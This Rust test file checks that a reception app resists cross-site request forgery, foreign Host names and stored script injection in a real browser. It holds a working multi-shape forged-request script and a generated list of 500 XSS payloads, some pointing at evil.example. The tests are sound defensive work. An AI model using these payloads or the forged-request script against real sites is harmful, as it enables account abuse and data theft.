//! A hostile page in the same browser, and hostile text in our own: in a real Chromium, at another loopback port, under the other name of this machine,
//! and under a foreign name that leads here.

#![allow(clippy::unwrap_used, reason = "a test may panic")]
#![allow(clippy::print_stdout, reason = "figures for a person to read")]

use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::Mutex;
use std::time::Duration;

use bhyt_agent::domain::roster::Column;
use bhyt_agent::domain::visit::Receipt;
use bhyt_agent::domain::visit::ReceiptOutcome;
use bhyt_agent::domain::visit::Revision;
use serde_json::json;
use tokio::io::AsyncReadExt;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpListener;
use tokio::time;

use super::browser::Browser;
use super::counter;
use super::counter::Counter;
use super::lan::Neighbour;
use super::lan::open_code;
use super::reception_guard;
use super::tab::Tab;
use super::tab::saved;

/// Twelve shapes of a request that a page can have a browser send elsewhere; `to` is the address, `body` a form that would be good on our own page.
const ATTACK: &str = r"
    const attack = async (to, body) => {
        const shapes = [];
        const frame = () => { const f = document.createElement('iframe'); f.name = 'f' + Math.random(); document.body.append(f); return f.name; };
        const form = (target, kind, action) => {
            const f = document.createElement('form');
            Object.assign(f, { method: 'post', action: action || to, target, enctype: kind });
            for (const [name, value] of new URLSearchParams(body)) {
                const i = document.createElement('input'); i.type = 'hidden'; i.name = name; i.value = value; f.append(i);
            }
            document.body.append(f); f.submit();
        };
        form(frame(), 'application/x-www-form-urlencoded');
        form('_blank', 'application/x-www-form-urlencoded');
        form(frame(), 'text/plain');
        form(frame(), 'multipart/form-data');
        form(frame(), 'application/x-www-form-urlencoded', '/redirect?to=' + encodeURIComponent(to));
        const send = (mode, kind) => shapes.push(fetch(to, { method: 'POST', mode, credentials: 'include', body: kind ? new Blob([body], { type: kind }) : new URLSearchParams(body) }).catch(() => 0));
        send('no-cors');
        send('no-cors', 'text/plain');
        send('cors', 'application/json');
        const image = new Image(); image.src = to + '?image&' + body; document.body.append(image);
        navigator.sendBeacon(to, new URLSearchParams(body));
        const inner = document.createElement('iframe'); inner.src = to + '?iframe&' + body; document.body.append(inner);
        window.open(to + '?open&' + body);
        await Promise.all(shapes);
    };
";

const SHAPES: usize = 12;

type Seen = Arc<Mutex<BTreeMap<String, usize>>>;

/// Somebody else's server on this machine: an empty page, a redirect that keeps the method, and a count of all other requests by path.
async fn stranger() -> (SocketAddr, Seen) {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
    let (address, seen) = (listener.local_addr().unwrap(), Seen::default());
    let counted = Arc::clone(&seen);
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let counted = Arc::clone(&counted);
            tokio::spawn(async move {
                let mut head = Vec::new();
                while !head.windows(4).any(|four| four == b"\r\n\r\n") {
                    let mut bytes = [0; 4096];
                    match stream.read(&mut bytes).await {
                        Ok(length @ 1..) => head.extend_from_slice(&bytes[..length]),
                        _ => return,
                    }
                }
                let text = String::from_utf8_lossy(&head).into_owned();
                let target = text.split_whitespace().nth(1).unwrap_or_default().to_owned();
                let answer = if let Some(to) = target.strip_prefix("/redirect?to=") {
                    let to: String = url::form_urlencoded::parse(format!("to={to}").as_bytes()).next().unwrap().1.into_owned();
                    format!("HTTP/1.1 307 Temporary Redirect\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                } else {
                    let path = target.split('?').next().unwrap_or_default().to_owned();
                    *counted.lock().unwrap().entry(path).or_default() += 1;
                    let page = "<!doctype html><title>x</title><body>x</body>";
                    format!(
                        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{page}",
                        page.len()
                    )
                };
                let _ = stream.write_all(answer.as_bytes()).await;
                let _ = stream.shutdown().await;
                let mut rest = Vec::new();
                let _ = time::timeout(Duration::from_secs(1), stream.read_to_end(&mut rest)).await;
            });
        }
    });
    (address, seen)
}

/// Everything that a form could change.
async fn state(counter: &Counter) -> Vec<String> {
    let mut state: Vec<_> =
        counter.desk.today().await.unwrap().iter().map(|logged| format!("{:?} {:?}", logged.visit.sequence, logged.delivery)).collect();
    state.push(format!("{:?}", counter.desk.open_rechecks(10).await.unwrap().len()));
    state.push(counter.desk.others().all().await.unwrap().len().to_string());
    state
}

async fn attack(browser: &Browser, from: &str, to: &str, routes: &[String], body: &str) {
    browser.client.goto(from).await.unwrap();
    let script = format!(
        "{ATTACK} window.attacked = 0; (async () => {{ for (const path of {}) {{ await attack({} + path, {}); window.attacked += 1; }} }})();",
        json!(routes),
        json!(to),
        json!(body)
    );
    browser.ask(&script).await;
    browser.until(&format!("window.attacked === {}", routes.len())).await;
    // Frames and windows load on their own.
    let now = browser.ask("return performance.now()").await;
    browser.until(&format!("performance.now() > {now} + 1500")).await;
    let own = browser.client.window().await.unwrap();
    for window in browser.client.windows().await.unwrap() {
        if window != own {
            browser.client.switch_to_window(window).await.unwrap();
            browser.client.close_window().await.unwrap();
        }
    }
    browser.client.switch_to_window(own).await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn f45_no_page_of_another_origin_changes_anything() {
    let counter = Counter::running().await.on_the_lan().await;
    let refused = counter.desk.check_in(&counter.desk.look_up(counter::UNKNOWN).await.unwrap()).await.unwrap().id;
    super::correct::refuse(&counter, refused, 1, "wrong_station").await;
    let browser = Browser::open_with(&["--disable-popup-blocking"]).await;
    browser.visit(&counter).await;
    browser.keys(counter::VALID).await;
    browser.enter().await;
    browser.see("#ket-qua").await;
    browser.read().await;
    // The worst case: it knows everything that our own page would send.
    let token = browser.ask("return document.querySelector('[name=bieu_mau]').value").await;
    let waiting = browser.ask("return document.querySelector('[name=luot]').value").await;
    let body = format!(
        "bieu_mau={}&luot={}&ma=&ma_luot={}&ban=1&ghi_chu=x&so=1&ngon_ngu=en",
        token.as_str().unwrap(),
        waiting.as_str().unwrap(),
        refused.0
    );
    let routes = reception_guard::write_routes();
    assert!(routes.len() >= 10, "{routes:?}");
    let before = state(&counter).await;
    let (stranger, _) = stranger().await;
    let port = counter.address.port();
    let mut tried = 0;
    for (from, to) in [
        (format!("http://127.0.0.1:{}/", stranger.port()), format!("http://127.0.0.1:{port}")),
        (format!("http://localhost:{}/", stranger.port()), format!("http://127.0.0.1:{port}")),
        (format!("http://127.0.0.1:{}/", stranger.port()), format!("http://localhost:{port}")),
    ] {
        attack(&browser, &from, &to, &routes, &body).await;
        assert_eq!(state(&counter).await, before, "from {from} to {to}");
        tried += routes.len() * SHAPES;
    }
    println!("{} write routes, {SHAPES} shapes, 3 origins: {tried} tries, 0 changes", routes.len());
    browser.visit(&counter).await;
    assert_eq!(browser.ask("return document.documentElement.lang").await, json!("vi"));

    // What would be found: the same page, aimed at a server that takes everything, is heard in every shape, and our own page saves with this body.
    let (other, heard) = self::stranger().await;
    attack(&browser, &format!("http://127.0.0.1:{}/", stranger.port()), &format!("http://127.0.0.1:{}", other.port()), &routes[..2], &body)
        .await;
    for path in &routes[..2] {
        let count = heard.lock().unwrap().get(path).copied().unwrap_or_default();
        // A request that may not be sent without asking first is asked for first, and counted too.
        assert!(count >= SHAPES, "{path}: {count} of {SHAPES} shapes arrive");
    }
    browser.visit(&counter).await;
    browser
        .ask(&format!(
            "fetch('/tra-cuu', {{ method: 'POST', headers: {{ 'Content-Type': 'application/x-www-form-urlencoded' }}, body: {} }})",
            json!(body)
        ))
        .await;
    time::timeout(Duration::from_mins(1), async {
        while saved(&counter).await < 2 {
            time::sleep(Duration::from_millis(20)).await;
        }
    })
    .await
    .expect("the body is good on our own page");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn f45_a_foreign_name_that_leads_here_can_neither_read_nor_write() {
    let counter = Counter::running().await;
    let browser = Browser::open_with(&["--host-resolver-rules=MAP evil.example 127.0.0.1"]).await;
    browser.visit(&counter).await;
    browser.keys(counter::VALID).await;
    browser.enter().await;
    browser.see("#ket-qua").await;
    let foreign = format!("http://evil.example:{}/", counter.address.port());
    browser.client.goto(&foreign).await.unwrap();
    assert_eq!(browser.ask("return location.origin + '/'").await, json!(foreign), "it is there, and is the page's own origin");
    assert_eq!(browser.ask("return document.getElementById('loi').dataset.label").await, json!("request:host"));
    let mut routes = reception_guard::routes();
    routes.push("/nothing".to_owned());
    let script = format!(
        "window.answers = null; (async () => {{ const found = []; for (const path of {}) for (const method of ['GET', 'POST']) {{
            const answer = await fetch(path, {{ method, body: method === 'POST' ? new URLSearchParams({{ ma: '{}' }}) : undefined }});
            found.push([path, answer.status, await answer.text()]);
        }} window.answers = found; }})();",
        json!(routes),
        counter::VALID
    );
    browser.ask(&script).await;
    browser.until("window.answers !== null").await;
    let answers = browser.ask("return window.answers").await;
    let answers = answers.as_array().unwrap();
    assert_eq!(answers.len(), routes.len() * 2);
    for answer in answers {
        assert_eq!(answer[1], json!(421), "{}", answer[0]);
        let text = answer[2].as_str().unwrap();
        assert!(!text.contains("Mẫu") && !text.contains("GD4") && !text.contains("o-nhap"), "{}", answer[0]);
    }
    assert_eq!(saved(&counter).await, 0);
    println!("{} requests under a foreign name: all refused", answers.len());
    // Under our own name the same browser reads.
    browser.visit(&counter).await;
    browser.see("#o-nhap").await;
}

/// Text that would run if it were markup anywhere, each told by its number.
fn payloads() -> Vec<String> {
    let hit = |n: usize| format!("window.hit=[...(window.hit||[]),{n}]");
    let shapes: [fn(&str) -> String; 20] = [
        |js| format!("<script>{js}</script>"),
        |js| format!("</script><script>{js}</script>"),
        |js| format!("<img src=x onerror=\"{js}\">"),
        |js| format!("<svg onload=\"{js}\">"),
        |js| format!("\"><script>{js}</script>"),
        |js| format!("'><img src=x onerror='{js}'>"),
        |js| format!("\" autofocus onfocus=\"{js}\" x=\""),
        |js| format!("' onmouseover='{js}' x='"),
        |js| format!("<a href=\"javascript:{js}\" id=o-nhap>x</a>"),
        |js| format!("<iframe srcdoc=\"<script>parent.{js}</script>\"></iframe>"),
        |js| format!("<details open ontoggle=\"{js}\">"),
        |js| format!("<style>@import 'http://evil.example/{js}'</style>"),
        |js| format!("</style><script>{js}</script>"),
        |js| format!("</title><script>{js}</script>"),
        |js| format!("</textarea><script>{js}</script>"),
        |js| format!("<!--><script>{js}</script>-->"),
        |js| format!("{{{{constructor.constructor('{js}')()}}}}"),
        |js| format!("&lt;script&gt;{js}&lt;/script&gt;"),
        |js| format!("<base href=//evil.example/><script>{js}</script>"),
        |js| format!("<form action=//evil.example/><button>{js}"),
    ];
    let around: [(&str, &str); 25] = [
        ("", ""),
        ("Lê ", ""),
        ("", " Thị"),
        ("\u{202e}", ""),
        ("\u{feff}", ""),
        ("]]>", ""),
        ("-->", "<!--"),
        ("\u{0}", ""),
        ("'\"", "\"'"),
        ("`", "`"),
        ("%3C", "%3E"),
        ("&#60;", "&#62;"),
        ("\\u003c", "\\u003e"),
        ("＜", "＞"),
        ("</p>", "<p>"),
        ("</td></tr></table>", ""),
        ("</dd></dl>", ""),
        ("</form>", ""),
        ("</section></main>", ""),
        ("${", "}"),
        ("{% ", " %}"),
        ("\u{85}", ""),
        ("\t", "\t"),
        ("</noscript>", "<noscript>"),
        ("<![CDATA[", "]]>"),
    ];
    let mut payloads = Vec::new();
    for shape in shapes {
        for (before, after) in around {
            payloads.push(format!("{before}{}{after}", shape(&hit(payloads.len()))));
        }
    }
    payloads
}

async fn check_inert(browser: &Browser, what: &str) {
    assert_eq!(browser.ask("return window.hit || []").await, json!([]), "{what}");
    assert_eq!(browser.complaints().await, [""; 0], "{what}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn f46_text_from_outside_is_text() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 500);
    let counter = Counter::running().await.on_the_lan().await;
    let received_at = counter::NOW.parse().unwrap();
    for text in &payloads {
        // A name is letters: as one it is not even taken.
        let scan = counter::payload(text, "02/09/1985");
        assert!(counter.desk.look_up(&scan).await.is_err(), "{text}");
        // The province may say anything.
        let id = counter.desk.check_in(&counter.desk.look_up(counter::UNKNOWN).await.unwrap()).await.unwrap().id;
        let outcome = ReceiptOutcome::Refused { code: "something_new".into(), text: text.as_str().into() };
        counter.visits.store_receipts(vec![Receipt { id, revision: Revision::FIRST, outcome }], received_at).await.unwrap();
    }
    let browser = Browser::open().await;
    browser.visit(&counter).await;
    browser.client.goto(&format!("http://{}/ca-ngay", counter.address)).await.unwrap();
    browser.see("#hom-nay").await;
    let shown = browser.ask("return document.getElementById('hom-nay').textContent.match(/window\\.hit=/g).length").await;
    assert!(shown.as_u64().unwrap() >= 450, "{shown} of them are seen as text");
    browser.picture("23-hostile").await;
    check_inert(&browser, "the list").await;

    // As a scan in the browser itself, and as what the province says of somebody: name and hamlet.
    for (n, text) in payloads.iter().enumerate().step_by(50) {
        let published = text.clone();
        let change = move |rows: &mut Vec<bhyt_agent::domain::roster::RosterRow>| {
            rows[0].set(Column::Name, Some(published.clone().into()));
            rows[0].set(Column::Hamlet, Some(published.into()));
        };
        counter.publish(1842 + n as u64, change).await;
        browser.visit(&counter).await;
        let scan = counter::payload(text, "02/09/1985");
        browser.ask(&format!("document.getElementById('o-nhap').value = {}", json!(scan))).await;
        browser.enter().await;
        browser.see("#ket-qua, #loi").await;
        check_inert(&browser, text).await;
        browser.ask(&format!("document.getElementById('o-nhap').value = {}", json!(text))).await;
        browser.enter().await;
        browser.see("#loi").await;
        check_inert(&browser, text).await;
    }
    // Somebody at another desk chooses its name.
    let code = open_code(&mut Tab::open(&counter).await).await;
    assert_eq!(Neighbour::new(counter.lan()).pair(&code, "<img src=x onerror=\"window.hit=[1]\">").await.status, 303);
    browser.client.goto(&format!("http://{}/ban", counter.address)).await.unwrap();
    assert!(browser.see("#cac-ban").await.text().await.unwrap().contains("<img src=x"));
    check_inert(&browser, "the name of a desk").await;
    println!(
        "500 payloads as the province's reasons and as names in a scan, 10 of them as scans and roster in the browser, one as a desk: none ran"
    );
    // What would be found: markup where text should be.
    browser.ask("document.querySelector('main').insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hit=[1]\">')").await;
    browser.until("document.querySelector('main img')").await;
    let complained = async {
        while browser.complaints().await.is_empty() {
            time::sleep(Duration::from_millis(50)).await;
        }
    };
    time::timeout(Duration::from_mins(1), complained).await.expect("the policy complains");
    assert_eq!(browser.ask("return window.hit || []").await, json!([]), "and keeps it from running all the same");
}
